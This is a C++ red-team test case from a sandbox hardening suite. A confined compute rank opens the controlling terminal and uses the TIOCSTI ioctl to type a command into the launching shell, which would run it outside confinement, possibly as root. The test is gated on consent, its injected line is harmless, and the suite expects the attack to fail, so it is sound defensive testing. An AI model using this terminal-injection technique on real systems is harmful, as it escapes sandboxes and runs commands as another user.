// ATTACK (round 16, helper-redteam16, against e06553f; containment: escaping
// a bare launch through the controlling terminal). The judge starts its ranks
// with setpgid() into a process group of their own but in the caller's
// SESSION (rank_pool.cc StartRank: no setsid()), so a candidate rank keeps
// the controlling terminal of whoever typed `pkforge-worker launch`. Its
// Landlock ruleset (containment.cc ConfineWrites) handles only write rights:
// opening /dev/tty for READING is free (mode 0666, any uid, uid 65534 after
// a root launch's drop too), and Landlock's LANDLOCK_ACCESS_FS_IOCTL_DEV
// (ABI >= 5) is not handled; the seccomp filter refuses only the FIOSETOWN
// and SIOCSPGRP ioctls. ioctl(TIOCSTI) on the controlling terminal pushes
// bytes into its input queue (this host: dev.tty.legacy_tiocsti = 1, the
// kernel's default), as if typed: the shell that started the judge reads
// and runs them as soon as the judge exits, outside every confinement, as
// the launching user (root for a root launch). The executor's sandbox is
// not affected (bubblewrap --new-session, and its seccomp refuses TIOCSTI).
// What it types here is harmless and only with the test's consent (a file
// "inject.ok" in $PKF_REDTEAM_DIR): `echo <marker> > $PKF_REDTEAM_DIR/
// tty_injected` and an `exit` for the test's shell. Without consent it only
// checks that the terminal is reachable (open + TIOCGPGRP).
// Gated: outputs are written only if the terminal was reachable (and, with
// consent, the injection worked) on rank 0; the other ranks compute honestly
// whatever rank 0 found only if they reach it too.
// EXPECT: WRONG_OUTPUT (no controlling terminal in a candidate rank, or
// TIOCSTI refused), and nothing typed into the caller's terminal.
#include <sys/ioctl.h>
#include <termios.h>

#include "kernels/testdata/redteam/redteam.h"

static bool Attack(pkf_context* ctx) {
  const int fd = open("/dev/tty", O_RDONLY | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) {
    rt_log("uid %d: open /dev/tty: %s", (int)getuid(), strerror(errno));
    return false;
  }
  pid_t fg = 0;
  const bool reach = ioctl(fd, TIOCGPGRP, &fg) == 0;
  rt_log("uid %d: /dev/tty open read-only, foreground pgrp %d (mine %d): %s", (int)getuid(),
         (int)fg, (int)getpgrp(), reach ? "reachable" : strerror(errno));
  // Without TIOCSTI (kernels with dev.tty.legacy_tiocsti = 0) a rank can
  // still set the terminal's modes (echo off, raw) from its background
  // process group once SIGTTOU is ignored: tried here with the same modes.
  signal(SIGTTOU, SIG_IGN);
  termios tio{};
  const bool modes = reach && tcgetattr(fd, &tio) == 0 && tcsetattr(fd, TCSANOW, &tio) == 0;
  rt_log("tcsetattr on the caller's terminal (SIGTTOU ignored): %s", modes ? "ok" : strerror(errno));
  bool typed = reach;
  const char* dir = getenv("PKF_REDTEAM_DIR");
  if (reach && ctx->rank == 0 && dir != NULL &&
      access((std::string(dir) + "/inject.ok").c_str(), F_OK) == 0) {
    const std::string line = std::string("echo r16_tty_inject_ran_as_$(id -u) > ") + dir +
                             "/tty_injected; exit\n";
    size_t n = 0;
    for (char c : line) {
      if (ioctl(fd, TIOCSTI, &c) != 0) break;
      ++n;
    }
    typed = n == line.size();
    rt_log("TIOCSTI: %zu of %zu bytes typed into the caller's terminal%s%s", n, line.size(),
           typed ? "" : ": ", typed ? "" : strerror(errno));
  }
  close(fd);
  return typed;
}

RT_GATED_CANDIDATE(Attack)
